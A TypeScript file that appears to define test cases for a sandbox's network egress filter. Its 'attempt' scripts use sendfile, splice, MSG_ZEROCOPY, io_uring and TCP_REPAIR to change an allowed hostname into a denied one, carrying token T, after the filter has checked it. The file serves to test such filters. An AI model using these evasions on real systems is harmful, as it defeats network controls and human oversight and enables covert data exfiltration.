import { type Case } from '../case.ts'
import { tools } from '../world.ts'
import { python } from './script.ts'

const by = 'packet: bytes that their sender can still change name nothing'
const server = '198.51.100.10'
const hideout = "HIDDEN = T + '.hidden.example.net'; address_of('good.example.com')"

/** How pages are sent, and what makes them be read again later: the peer's own read, or a loss. */
const ways = [
  ['sendfile', 'sent by sendfile, changed before the peer reads it', 8440, ''],
  ['splice', 'sent by vmsplice and splice, changed before the peer reads it', 8441, ''],
  ['zero-copy', 'sent with MSG_ZEROCOPY, changed before it is sent again', 8442, 'loses'],
] as const

/** Root can make a connection that was open before: on the same socket, or on another one. */
const repairs = [
  ['repair', 'on the same socket', 8445, 'True'],
  ['repair-new', 'on a new socket', 8446, 'False'],
] as const

const site = (port: number, how: string): string =>
  `exec /usr/bin/python3 ${tools}/late-site.py ${server} ${port} ${how}`

/** A handshake by copies, as far as the client's Finished; then without copying. */
const afterHandshake = (how: string, port: number): string =>
  python(`
s = made(); s.connect((address_of('good.example.com'), ${port}))
s.sendall(hello('good.example.com')); s.recv(4)
s.sendall(b'\\x14\\3\\3\\0\\1\\1\\x17\\3\\3\\0\\1x'); s.recv(4)
send_pages(s, '${how}', DATA * 20); s.recv(4) or sys.exit(9)`)

export const changedBytes: readonly Case[] = [
  ...ways.map(([how, what, port, loss]): Case => ({
    id: `changed-${how}`,
    technique: `ClientHello of an allowed name, ${what}`,
    internet: site(port, loss),
    attempt: python(`
${hideout}
allowed, denied = two_hellos('good.example.com', HIDDEN)
s = made(); s.connect(('${server}', ${port}))
send_pages(s, '${how}', allowed)[:len(denied)] = denied
s.recv(4) or sys.exit(9)`),
    twin: afterHandshake(how, port),
    by,
  })),
  {
    id: 'changed-body',
    technique:
      'body of a request to an allowed host, sent by sendfile and changed to a request to another',
    internet: site(8443, ''),
    attempt: python(`
${hideout}
request = b'GET / HTTP/1.1\\r\\nHost: ' + HIDDEN.encode() + b'\\r\\n\\r\\n'
s = made(); s.connect(('${server}', 8443))
s.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.com:8443\\r\\n\\r\\n')
send_pages(s, 'sendfile', b'x' * len(request))[:len(request)] = request
s.recv(4); s.recv(4) or sys.exit(9)`),
    twin: python(`
s = tcp(WHERE4, b'PUT / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(DATA))
send_pages(s, 'sendfile', DATA); s.recv(4) or sys.exit(9)`),
    by,
  },
  ...repairs.map(([id, what, port, again]): Case => ({
    id: `changed-${id}`,
    technique: `ClientHello of an allowed name that is lost, then the connection rewound (TCP_REPAIR) ${what} and one of another name sent in its place`,
    as: ['root'],
    internet: site(port, 'loses'),
    attempt: python(`
${hideout}
allowed, denied = two_hellos('good.example.com', HIDDEN)
s = made(); s.connect(('${server}', ${port}))
s.sendall(allowed)
s = rewound(s, len(allowed), ${again})
s.sendall(denied); s.recv(4) or sys.exit(9)`),
    twin: python(`
s = made(); s.connect((address_of('good.example.com'), ${port}))
first = hello('good.example.com')
s.sendall(first)
s = rewound(s, len(first), ${again})
s.sendall(hello('good.example.com', session=DATA)); s.recv(4) or sys.exit(9)`),
    by: 'packet: what a connection that was made anew sends first is looked at anew',
  })),
  {
    id: 'changed-uring',
    technique:
      'request to an allowed host sent without copying by io_uring, changed before it is sent again',
    internet: site(8444, 'loses'),
    attempt: `getent hosts good.example.com >/dev/null
$URING change ${server} 8444 $'GET / HTTP/1.1\\r\\nHost: good.example.com:8444\\r\\n\\r\\n'"$(printf %0300d 0)" $'GET / HTTP/1.1\\r\\nHost: '"$T"$'.hidden.example.net\\r\\n\\r\\n'`,
    twin: '$URING change $D4 8080 "$T" "$T"',
    by,
  },
]
